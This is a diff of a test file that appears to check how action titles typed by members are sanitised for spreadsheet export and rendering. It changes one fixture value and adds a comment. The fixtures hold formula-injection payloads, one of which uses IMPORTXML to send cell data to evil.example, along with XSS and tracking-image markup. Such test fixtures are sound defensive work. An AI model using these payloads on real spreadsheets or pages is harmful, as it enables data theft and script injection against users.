@@ -34,10 +34,11 @@ from tests.render_factory import make_snapshot
 
 # What members may type as an action's title; each is a formula (or DDE) to a spreadsheet.
 FORMULAS = ['=HYPERLINK("http://evil.example","click")', "+1", "-2+3", "@SUM(A1)",
-            "\t=1+1", "\r=1+1", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']
+            "\t=1+1", "\r=2+2", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']
 # The same after typing: a tab or CR before the text is cleaned away, the formula stays.
+# (Two different formulas there: an action already in the plan is asked about, issue #14.)
 TYPED = ['=HYPERLINK("http://evil.example","click")', "+1", "-2+3", "@SUM(A1)",
-         "=1+1", "=1+1", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']
+         "=1+1", "=2+2", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']
 MARKUP = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
           "[klik hier](javascript:alert(1))", "![](http://tracker.example/p.png)",
           "<http://evil.example/>", "zie http://evil.example/x en www.evil.example",
